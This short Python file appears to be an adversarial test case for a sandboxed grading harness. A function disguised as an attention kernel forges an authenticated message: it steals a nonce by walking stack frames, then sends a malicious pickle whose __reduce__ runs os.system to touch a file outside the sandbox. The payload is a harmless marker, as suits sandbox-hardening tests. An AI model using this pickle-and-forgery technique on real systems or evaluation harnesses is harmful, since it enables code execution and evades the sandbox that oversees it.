"""Sends a pickle that runs a command where it is loaded.

Technique: forging
"""

import os, struct, sys

sys.path.insert(0, "/lane")
from lane import wire


def desk():
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "_nonce"):
        frame = frame.f_back
    return frame.f_locals["self"]


def attention_scores(q, k, *, scale=None):
    import pickle
    class Command:
        def __reduce__(self):
            return os.system, (f"touch {OUTSIDE}",)
    blob = pickle.dumps(Command())
    os.write(3, wire.HEADER.pack(len(blob), len(blob), desk()._nonce) + blob * 2)
    return torch.zeros(2)
